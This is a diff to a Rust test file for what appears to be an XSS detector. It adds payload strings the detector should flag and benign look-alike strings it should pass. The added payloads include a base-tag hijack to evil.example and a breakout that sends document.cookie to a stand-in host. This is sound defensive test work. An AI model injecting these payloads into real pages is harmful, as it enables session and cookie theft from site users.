@@ -38,6 +38,10 @@ fn xss_tags_handlers_urls_and_breakouts() {
             "<\"onwebkitplaybacktargetavailabilitychanged=",
             "'formaction=javascript:alert(1)",
             "\"srcdoc=<script>x</script>",
+            "<object data=\"x.swf\">",
+            "<base href=//evil.example/>",
+            "'-new Image().src='//x.example/'+document.cookie",
+            "\"-location=name-\"",
         ],
         &[
             "a < b and c > d",
@@ -53,6 +57,11 @@ fn xss_tags_handlers_urls_and_breakouts() {
             "The form < f o r m factor",
             "<atom:link href=\"https://example.com/feed\" rel=\"self\"/>",
             "it's 'formaction' time",
+            "the tag's <object> identifier",
+            "has a <base> without a href",
+            "This configures Node.js to interpret `--eval` or `STDIN` input",
+            "--pool=\"my-pool\" --location=\"global\"",
+            "| `clippy::nursery`     | new lints that are still under development |",
         ],
     );
 }
